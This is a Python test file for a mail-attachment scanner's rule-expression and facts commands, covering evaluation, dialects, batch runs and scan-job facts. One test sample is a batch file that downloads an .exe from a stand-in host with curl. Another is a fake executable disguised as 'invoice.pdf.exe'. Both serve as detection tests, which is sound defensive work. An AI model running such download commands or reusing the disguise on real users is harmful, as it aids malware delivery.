"""`mailowl expr eval` and `mailowl expr facts`, run as an administrator runs them."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

from .server import Server

EXE_FACTS: dict[str, Any] = {
    "sample": {"filename": "a.exe", "name_declared": "a.exe", "type_declared": "application/octet-stream",
               "content_disposition": None, "file_extension": "exe", "file_size": 1000},
    "filereport": {"type_by_content": "application/x-dosexec", "type_as_text": "MS-DOS executable, MZ for MS-DOS",
                   "mime_types": ["application/x-dosexec"]},
    "knownreport": {"known": True, "result": "good", "worst_result": "bad", "first": 3},
}


def mailowl(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "mailowl.cli", *args], input=stdin, capture_output=True, text=True,
                          timeout=120)


def evaluate(expression: str, facts: dict[str, Any] | None = None, *extra: str) -> tuple[int, dict[str, Any]]:
    done = mailowl("expr", "eval", "--facts", "-", *extra, expression, stdin=json.dumps(facts or EXE_FACTS))
    return done.returncode, json.loads(done.stdout)


def test_answers_and_exit_status() -> None:
    assert evaluate("sample.file_extension in {'exe', 'scr'} -> bad") == (
        0, {"result": "bad", "error": None, "phase": None})
    assert evaluate("sample.file_size < 100 -> bad") == (0, {"result": None, "error": None, "phase": None})
    assert evaluate("knownreport.known -> knownreport.worst_result")[1]["result"] == "bad"
    assert evaluate("True -> fail")[1] == {"result": "failed", "error": None, "phase": None}
    code, answer = evaluate("sample.file_size > 5 and sample.file_size < 'x' -> bad")
    assert code == 1 and answer["result"] == "failed" and answer["phase"] == "eval"
    assert answer["error"] == "TypeError: '<' not supported between instances of 'int' and 'str'"
    code, answer = evaluate("True -> sample.filename")
    assert code == 1 and answer["error"] == "the expression yields 'a.exe', not a result"
    code, answer = evaluate("/MZ/ in olereport.vba_code -> bad")
    assert code == 1 and answer["error"] == "no facts of olereport given"
    code, answer = evaluate("sample.file_size > 5 and /x/ in filereport.type_by_name -> bad")
    assert code == 1 and answer["error"] == "no fact filereport.type_by_name given"


def test_load_errors_are_check_configs_messages(tmp_path: Path) -> None:
    for text in ["sample.file_size > * 3 -> bad", "sample.extension == 'exe' -> bad",
                 "sample.file_extension in {/exe/, /scr/} -> bad", "filereport.type_as_text in [/PE32/, 'x'] -> bad",
                 "True or cuckooreport.score > 5 -> bad"]:
        code, answer = evaluate(text)
        assert code == 2 and answer["result"] is None and answer["phase"] == "load", answer
        (tmp_path / "r.conf").write_text(f"[rules]\nrule.1 : expressions\n[expressions]\nexpression.1 : {text}\n")
        checked = mailowl("check-config", "--ruleset", str(tmp_path / "r.conf"))
        assert checked.returncode == 2
        assert f"[expressions] expression (0) {text!r}: {answer['error']}" in checked.stderr, checked.stderr


def test_dialects(tmp_path: Path) -> None:
    text = "filereport.type_as_text in [/PE32/, 'MS-DOS executable'] -> bad"
    assert evaluate(text)[1]["phase"] == "load"  # PeekabooAV refuses it: None in 'MS-DOS executable' raises
    assert evaluate(text, None, "--dialect", "mailowl")[1]["result"] == "bad"
    assert evaluate("sample.file_extension in {/ex/} -> bad", None, "--dialect", "mailowl")[1]["result"] == "bad"
    # a ruleset opts in with [expressions] dialect; unknown names PeekabooAV's check misses get a warning
    ruleset = tmp_path / "r.conf"
    ruleset.write_text("[rules]\nrule.1 : expressions\nrule.2 : final_rule\n[expressions]\n"
                       "expression.1 : sample.file_size > 5 and sample.extension == 'exe' -> bad\n")
    checked = mailowl("check-config", "--ruleset", str(ruleset))
    assert checked.returncode == 0 and "unknown attribute 'extension' of 'sample'" in checked.stderr
    assert "accepted because PeekabooAV's start-up check does not reach it" in checked.stderr
    ruleset.write_text(ruleset.read_text() + "dialect : mailowl\n")
    checked = mailowl("check-config", "--ruleset", str(ruleset))
    assert checked.returncode == 2 and "unknown attribute 'extension' of 'sample'" in checked.stderr
    ruleset.write_text("[rules]\nrule.1 : expressions\nrule.2 : final_rule\n[expressions]\ndialect : mailowl\n"
                       "expression.1 : sample.filename == [/\\.exe$/, 'setup.msi'] -> bad\n")
    (tmp_path / "setup.msi").write_bytes(b"installer bytes")
    scanned = mailowl("scan", "--json", "--ruleset", str(ruleset), str(tmp_path / "setup.msi"))
    assert json.loads(scanned.stdout)[0]["result"] == "bad", scanned.stderr
    ruleset.write_text(ruleset.read_text().replace("dialect : mailowl", "dialect : python"))
    assert "dialect: expected one of peekaboo, mailowl" in mailowl("check-config", "--ruleset", str(ruleset)).stderr


def test_batch_answers_every_line_in_order(tmp_path: Path) -> None:
    lines = []
    for i in range(10_000):
        facts = {"sample": {"file_size": i, "file_extension": "exe" if i % 3 else "txt"}}
        lines.append(json.dumps({"expression": f"sample.file_size == {i} and sample.file_extension == 'exe' -> bad",
                                 "facts": facts}))
    lines[5] = "not json"
    lines[6] = json.dumps({"expression": "1 = 1 -> bad", "facts": {}})
    (tmp_path / "cases.jsonl").write_text("\n".join(lines) + "\n")
    done = mailowl("expr", "eval", "--batch", str(tmp_path / "cases.jsonl"))  # its speed: bench/expr_batch.py
    assert done.returncode == 0, done.stderr
    answers = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(answers) == 10_000
    assert answers[5]["phase"] == "load" and answers[5]["error"].startswith("line 6: not a case")
    assert answers[6]["error"] == "syntax error: unexpected character '=' at line 1, column 3"
    assert [a["result"] for a in answers[:5]] == [None, "bad", "bad", None, "bad"]
    assert sum(a["result"] == "bad" for a in answers) == len([i for i in range(10_000) if i % 3]) - 1


def test_facts_of_a_finished_job_try_an_expression_on_them(tmp_path: Path) -> None:
    srv = Server(tmp_path)
    try:
        content = b"@echo off\r\ncurl http://x.invalid/a.exe -o a.exe\r\n"
        first = srv.verdict(srv.scan(content, "run.bat")[1]["job_id"])
        second = srv.verdict(srv.scan(content, "run.bat")[1]["job_id"])
    finally:
        srv.stop()
    assert first["result"] == second["result"] == "bad"
    config = tmp_path / "mailowl.toml"
    config.write_text(f'[server]\ndata_dir = "{tmp_path / "data"}"\n')
    done = mailowl("expr", "facts", str(second["job_id"]), "--config", str(config))
    assert done.returncode == 0, done.stderr
    facts = json.loads(done.stdout)
    assert facts["sample"]["filename"] == "run.bat" and facts["sample"]["file_size"] == len(content)
    assert facts["knownreport"]["known"] and facts["knownreport"]["result"] == "bad"
    # decided by `known` from the cache: no rule read the file's type, none of it was computed
    assert "not computed during the analysis (no rule read them): filereport.type_as_text" in done.stderr
    first_facts = json.loads(mailowl("expr", "facts", str(first["job_id"]), "--config", str(config)).stdout)
    assert first_facts["knownreport"]["known"] is False  # as it stood when that job was created
    assert first_facts["filereport"]["type_by_content"] == "text/x-msdos-batch"
    answer = mailowl("expr", "eval", "--facts", "-", "knownreport.known and sample.file_extension == 'bat' -> bad",
                     stdin=done.stdout)
    assert json.loads(answer.stdout)["result"] == "bad"
    missing = mailowl("expr", "facts", "999999", "--config", str(config))
    assert missing.returncode == 2 and "job 999999 does not exist" in missing.stderr


def test_facts_of_a_file(tmp_path: Path) -> None:
    (tmp_path / "x.bin").write_bytes(b"MZ" + b"\x00" * 200)
    done = mailowl("expr", "facts", "--file", str(tmp_path / "x.bin"), "--name", "invoice.pdf.exe",
                   "--type", "application/pdf")
    assert done.returncode == 0, done.stderr
    facts = json.loads(done.stdout)
    assert facts["sample"]["file_extension"] == "exe" and facts["sample"]["type_declared"] == "application/pdf"
    assert facts["filereport"]["type_as_text"] and set(facts) >= {"olereport", "pereport", "archivereport"}
    answer = mailowl("expr", "eval", "--facts", "-", "sample.type_declared == 'application/pdf' and "
                     "/MS-DOS/ in filereport.type_as_text -> bad", stdin=done.stdout)
    assert json.loads(answer.stdout)["result"] == "bad", (facts["filereport"], answer.stdout)
    assert mailowl("expr", "facts").returncode == 2
    assert mailowl("expr", "eval").returncode == 2
